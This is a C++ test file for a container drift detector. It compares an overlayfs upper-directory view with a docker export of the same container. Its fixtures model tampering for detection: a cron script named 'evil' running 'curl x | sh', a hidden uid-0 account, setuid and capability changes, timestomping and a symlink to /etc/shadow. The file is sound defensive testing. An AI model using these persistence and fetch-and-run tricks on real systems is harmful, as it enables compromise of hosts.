// The merged view of an image and an overlay upper dir (built on disk, root only),
// checked against what an export of the same container gives.
#include "cdrift/diff/diff.hpp"
#include "cdrift/layer/overlay.hpp"
#include "cdrift/layer/tree_builder.hpp"
#include "cdrift/source/byte_source.hpp"
#include "cdrift/source/tar_reader.hpp"
#include "cdrift/source/upper_dir.hpp"
#include "test_tar.hpp"
#include "upper_tree.hpp"

#include <doctest/doctest.h>
#include <string>
#include <vector>

using namespace cdrift;
using namespace cdrift::test;

namespace {

Manifest tree_of(const std::vector<TarEntry>& table, Whiteouts whiteouts, int layer) {
  TreeBuilder builder;
  MemorySource src(make_tar(table), "test tar");
  TarReader reader(src, "test tar");
  auto st = reader.open();
  REQUIRE_MESSAGE(st, st.error().message);
  auto applied = builder.apply(reader, layer, whiteouts);
  REQUIRE_MESSAGE(applied, applied.error().message);
  return builder.finish("test", layer >= 0 ? SourceKind::rootfs_tar : SourceKind::container_export);
}

Result<Manifest> view_of(const Manifest& image, const UpperTree& t) {
  UpperDirReader reader(t.root());
  CDRIFT_TRY(reader.open());
  auto upper = read_upper_layer(reader);
  if (!upper) return fail(std::move(upper).error());
  return apply_upper_layer(image, *upper, "upper", SourceKind::container_export);
}

Manifest must_view(const Manifest& image, const UpperTree& t) {
  auto v = view_of(image, t);
  REQUIRE_MESSAGE(v, v.error().message);
  return std::move(*v);
}

// Everything an export can carry; ctime and birth time are the layer's extra.
std::string describe(const Entry& e) {
  std::string s = e.path + " " + std::string(to_string(e.type)) + " " + format_mode(e.mode) + " " +
                  std::to_string(e.uid) + ":" + std::to_string(e.gid) + " t" +
                  std::to_string(e.mtime) + " L" + std::to_string(e.layer);
  if (e.type == FileType::file)
    s += " " + std::to_string(e.size) + " " + (e.sha256 ? to_hex(*e.sha256) : "-") + " " +
         std::string(to_string(e.content_class)) + " " + e.interpreter;
  if (e.type == FileType::symlink) s += " -> " + e.target;
  if (e.type == FileType::chardev || e.type == FileType::blockdev)
    s += " " + std::to_string(e.dev_major) + "," + std::to_string(e.dev_minor);
  for (const auto& x : e.xattrs)
    s += " x:" + x.name + "=" + std::to_string(x.value.size());
  return s;
}

std::vector<std::string> described(const Manifest& m) {
  std::vector<std::string> out;
  for (const auto& e : m.entries)
    out.push_back(describe(e));
  return out;
}

std::string paths(const Manifest& m) {
  std::string s;
  for (const auto& e : m.entries)
    s += e.path + " ";
  return s;
}

const std::string elf = std::string("\x7f"
                                    "ELF\x02\x01\x01",
                                    7) +
                        std::string(200, 'x');
const std::string capability =
    std::string("\x01\x00\x00\x02\x00\x20\x00\x00", 8) + std::string(12, '\0');

// The image: one layer, as `docker save` would hold it.
std::vector<TarEntry> image_table() {
  return {
      tdir("./").at(500),
      tdir("etc/").at(600),
      tfile("etc/passwd", "root:x:0:0::/root:/bin/sh\n").at(601),
      tfile("etc/issue", "Debian\n").at(602),
      tfile("etc/issue.net", "Debian\n").at(602),
      tfile("etc/motd", "hello\n").at(603),
      tfile("etc/profile", "PATH=/bin\n").at(604),
      tdir("etc/cron.daily/").at(605),
      tfile("etc/cron.daily/apt", "#!/bin/sh\napt\n", 0755).at(606),
      tfile("etc/cron.daily/dpkg", "#!/bin/sh\ndpkg\n", 0755).at(606),
      tdir("etc/apt/").at(607),
      tdir("etc/apt/apt.conf.d/").at(608),
      tfile("etc/apt/apt.conf.d/70debconf", "conf\n").at(609),
      tdir("etc/apt/apt.conf.d/sub/").at(610),
      tfile("etc/apt/apt.conf.d/sub/x", "x\n").at(611),
      tdir("usr/").at(620),
      tdir("usr/bin/").at(621),
      tfile("usr/bin/find", elf, 0755).at(622),
      tfile("usr/bin/ls", elf + "ls", 0755).at(623),
      tsymlink("usr/bin/sh", "dash").at(624),
      tdir("usr/lib/").at(625),
      tdir("usr/lib/data/").at(626),
      tfile("usr/lib/data/big", "big\n").at(627),
      tdir("usr/share/").at(628),
      tfile("usr/share/readme", "unchanged\n").at(629),
      tdir("var/").at(630),
      tdir("var/log/").at(631),
      tfile("var/log/dpkg.log", "log\n").at(632),
  };
}

} // namespace

TEST_CASE("overlay view: the same manifest as the export of the same container") {
  if (!running_as_root()) {
    MESSAGE("skipped: building whiteouts needs root");
    return;
  }
  Manifest image = tree_of(image_table(), Whiteouts::apply, 0);

  // The container's upper dir, as overlayfs (metacopy, redirect_dir off) leaves it.
  UpperTree t;
  t.dir("etc", 0755, 700)
      .xattr("etc", "trusted.overlay.origin", "handle")
      .xattr("etc", "trusted.overlay.impure", "y")
      .file("etc/passwd", "root:x:0:0::/root:/bin/sh\nsvc:x:0:0::/:/bin/sh\n", 0644, 701) // sed -i
      .whiteout("etc/issue")                                                              // rm
      .link("etc/issue", "etc/issue.net")                        // one whiteout inode, two names
      .file("etc/profile", "PATH=/bin\n", 0644, 604, 1000, 1000) // chown: copied up, mtime kept
      .dir("etc/cron.daily", 0755, 702)                          // rm -rf d && mkdir d
      .opaque("etc/cron.daily")
      .file("etc/cron.daily/evil", "#!/bin/sh\ncurl x | sh\n", 0755, 703)
      .dir("etc/apt", 0755, 704) // mv apt.conf.d renamed.d: copy, then whiteout
      .whiteout("etc/apt/apt.conf.d")
      .dir("etc/apt/renamed.d", 0755, 608)
      .file("etc/apt/renamed.d/70debconf", "conf\n", 0644, 609)
      .dir("etc/apt/renamed.d/sub", 0755, 610)
      .file("etc/apt/renamed.d/sub/x", "x\n", 0644, 611)
      .dir("usr", 0755, 620)
      .dir("usr/bin", 0755, 705)
      .file("usr/bin/find", elf, 04755, 622)     // chmod u+s
      .file("usr/bin/ls", elf + "ls", 0755, 623) // setcap
      .xattr("usr/bin/ls", "security.capability", capability)
      .file("usr/bin/stomped", "#!/bin/sh\nid\n", 0755, 100) // touch -d 1970
      .link("usr/bin/stomped", "usr/bin/stomped-link")
      .dir("usr/lib", 0755, 706)
      .file("usr/lib/data", "now a file\n", 0644, 707) // a file over a lower directory
      .dir("usr/local", 0755, 708)
      .dir("usr/local/bin", 0755, 709)
      .file("usr/local/bin/copied", elf + "tool", 0755, 300, 1234, 5678) // docker cp
      .dir("tmp", 01777, 710)
      .symlink("tmp/shadow-link", "/etc/shadow", 711);
  t.finish();

  // What `docker export` of that container holds (without the -init layer's
  // placeholders): no root entry, the second name of an inode as a hardlink.
  std::vector<TarEntry> export_table = {
      tdir("etc/").at(700),
      tfile("etc/passwd", "root:x:0:0::/root:/bin/sh\nsvc:x:0:0::/:/bin/sh\n").at(701),
      tfile("etc/motd", "hello\n").at(603),
      tfile("etc/profile", "PATH=/bin\n").own(1000, 1000).at(604),
      tdir("etc/cron.daily/").at(702),
      tfile("etc/cron.daily/evil", "#!/bin/sh\ncurl x | sh\n", 0755).at(703),
      tdir("etc/apt/").at(704),
      tdir("etc/apt/renamed.d/").at(608),
      tfile("etc/apt/renamed.d/70debconf", "conf\n").at(609),
      tdir("etc/apt/renamed.d/sub/").at(610),
      tfile("etc/apt/renamed.d/sub/x", "x\n").at(611),
      tdir("usr/").at(620),
      tdir("usr/bin/").at(705),
      tfile("usr/bin/find", elf, 04755).at(622),
      tfile("usr/bin/ls", elf + "ls", 0755).at(623).xattr("security.capability", capability),
      tsymlink("usr/bin/sh", "dash").at(624),
      tfile("usr/bin/stomped", "#!/bin/sh\nid\n", 0755).at(100),
      thardlink("usr/bin/stomped-link", "usr/bin/stomped"),
      tdir("usr/lib/").at(706),
      tfile("usr/lib/data", "now a file\n").at(707),
      tdir("usr/local/").at(708),
      tdir("usr/local/bin/").at(709),
      tfile("usr/local/bin/copied", elf + "tool", 0755).own(1234, 5678).at(300),
      tdir("usr/share/").at(628),
      tfile("usr/share/readme", "unchanged\n").at(629),
      tdir("tmp/", 01777).at(710),
      tsymlink("tmp/shadow-link", "/etc/shadow").at(711),
      tdir("var/").at(630),
      tdir("var/log/").at(631),
      tfile("var/log/dpkg.log", "log\n").at(632),
  };
  Manifest exported = tree_of(export_table, Whiteouts::literal, -1);
  Manifest view = must_view(image, t);

  CHECK(described(view) == described(exported));
  CHECK(view.captures.files == exported.captures.files);
  CHECK(view.captures.files.count("/etc/passwd") == 1);

  // And so the same diff against the image, change by change.
  auto a = diff_manifests(image, view), b = diff_manifests(image, exported);
  REQUIRE(a.changes.size() == b.changes.size());
  for (std::size_t i = 0; i < a.changes.size(); ++i) {
    CAPTURE(a.changes[i].path);
    CHECK(a.changes[i].path == b.changes[i].path);
    CHECK(a.changes[i].kind == b.changes[i].kind);
    CHECK(a.changes[i].fields == b.changes[i].fields);
    CHECK(a.changes[i].mode_added == b.changes[i].mode_added);
    CHECK(a.changes[i].subtree_entries == b.changes[i].subtree_entries);
  }
  CHECK(a.changes.size() >= 14);

  // The evidence only the layer has: the timestomped file's inode is new.
  const Entry* stomped = view.find("/usr/bin/stomped");
  REQUIRE(stomped);
  CHECK(stomped->mtime == 100);
  CHECK(stomped->ctime > 1000000000);
  const Entry* motd = view.find("/etc/motd"); // untouched: from the image
  REQUIRE(motd);
  CHECK(motd->ctime == 0);
  // The symlink at the host's secret is an entry, never followed.
  const Entry* link = view.find("/tmp/shadow-link");
  REQUIRE(link);
  CHECK(link->type == FileType::symlink);
  CHECK(link->target == "/etc/shadow");
}

TEST_CASE("overlay view: whiteouts, opaque directories and replacements") {
  if (!running_as_root()) {
    MESSAGE("skipped");
    return;
  }
  Manifest image = tree_of(image_table(), Whiteouts::apply, 0);
  SUBCASE("a whiteout hides a whole lower directory") {
    UpperTree t;
    t.dir("etc").whiteout("etc/apt");
    t.finish();
    Manifest v = must_view(image, t);
    CHECK(v.find("/etc/apt") == nullptr);
    CHECK(v.find("/etc/apt/apt.conf.d/sub/x") == nullptr);
    CHECK(v.find("/etc/passwd") != nullptr);
  }
  SUBCASE("an opaque directory keeps only its upper entries") {
    UpperTree t;
    t.dir("etc").dir("etc/apt").opaque("etc/apt").file("etc/apt/new", "n");
    t.finish();
    Manifest v = must_view(image, t);
    CHECK(paths(v).find("/etc/apt /etc/apt/new /etc/cron.daily") != std::string::npos);
  }
  SUBCASE("a directory over a lower file, a file over a lower directory") {
    UpperTree t;
    t.dir("etc").dir("etc/motd").file("etc/motd/inside", "i").dir("usr").file("usr/lib", "f");
    t.finish();
    Manifest v = must_view(image, t);
    REQUIRE(v.find("/etc/motd"));
    CHECK(v.find("/etc/motd")->type == FileType::dir);
    CHECK(v.find("/usr/lib")->type == FileType::file);
    CHECK(v.find("/usr/lib/data") == nullptr);
    CHECK(v.find("/usr/lib/data/big") == nullptr);
  }
  SUBCASE("an opaque upper root hides the whole image") {
    UpperTree t;
    t.opaque(".").file("only", "o");
    t.finish();
    Manifest v = must_view(image, t);
    CHECK(paths(v) == "/ /only ");
  }
  SUBCASE("an empty upper gives the image, without layer indexes") {
    UpperTree t;
    t.finish();
    Manifest v = must_view(image, t);
    REQUIRE(v.entries.size() == image.entries.size());
    CHECK(paths(v) == paths(image));
    CHECK(diff_manifests(image, v).changes.empty());
    for (const auto& e : v.entries)
      CHECK(e.layer == -1);
  }
}

TEST_CASE("overlay view: redirect_dir and metacopy") {
  if (!running_as_root()) {
    MESSAGE("skipped");
    return;
  }
  Manifest image = tree_of(image_table(), Whiteouts::apply, 0);
  SUBCASE("a renamed directory shows the lower directory its redirect names") {
    UpperTree t;
    t.dir("etc").dir("etc/apt").whiteout("etc/apt/apt.conf.d");
    t.dir("etc/apt/renamed.d", 0700, 608)
        .xattr("etc/apt/renamed.d", "trusted.overlay.redirect", "/etc/apt/apt.conf.d")
        .file("etc/apt/renamed.d/added", "a");
    t.finish();
    Manifest v = must_view(image, t);
    CHECK(v.find("/etc/apt/apt.conf.d") == nullptr);
    REQUIRE(v.find("/etc/apt/renamed.d/70debconf"));
    CHECK(v.find("/etc/apt/renamed.d/sub/x") != nullptr);
    CHECK(v.find("/etc/apt/renamed.d/added") != nullptr);
    CHECK(v.find("/etc/apt/renamed.d")->mode == 0700);
  }
  SUBCASE("a relative redirect is a name in the parent's lower directory") {
    UpperTree t;
    t.dir("etc").dir("etc/apt").whiteout("etc/apt/apt.conf.d");
    t.dir("etc/apt/renamed.d").xattr("etc/apt/renamed.d", "trusted.overlay.redirect", "apt.conf.d");
    t.finish();
    Manifest v = must_view(image, t);
    CHECK(v.find("/etc/apt/renamed.d/sub/x") != nullptr);
  }
  SUBCASE("a redirect that is neither absolute nor a name is refused") {
    UpperTree t;
    t.dir("etc").dir("etc/x").xattr("etc/x", "trusted.overlay.redirect", "../usr");
    t.finish();
    auto v = view_of(image, t);
    REQUIRE_FALSE(v);
    CHECK(v.error().message.find(unknown_overlay_feature) != std::string::npos);
  }
  SUBCASE("a metacopy file has the upper's metadata and the lower's data") {
    UpperTree t;
    t.dir("usr").dir("usr/bin");
    t.file("usr/bin/find", std::string(elf.size(), '\0'), 04755, 622)
        .xattr("usr/bin/find", "trusted.overlay.metacopy", "");
    t.finish();
    Manifest v = must_view(image, t);
    const Entry* find = v.find("/usr/bin/find");
    REQUIRE(find);
    CHECK(find->mode == 04755);
    CHECK(find->sha256 == image.find("/usr/bin/find")->sha256);
    CHECK(find->content_class == image.find("/usr/bin/find")->content_class);
    CHECK(find->size == elf.size());
    auto d = diff_manifests(image, v);
    REQUIRE(d.changes.size() == 1);
    CHECK(d.changes[0].fields == std::vector<Field>{Field::mode});
  }
  SUBCASE("a metacopy file without a lower file is refused") {
    UpperTree t;
    t.dir("usr").dir("usr/bin").file("usr/bin/nothing-below", "");
    t.xattr("usr/bin/nothing-below", "trusted.overlay.metacopy", "");
    t.finish();
    auto v = view_of(image, t);
    REQUIRE_FALSE(v);
    CHECK(v.error().message.find("nothing-below") != std::string::npos);
  }
}
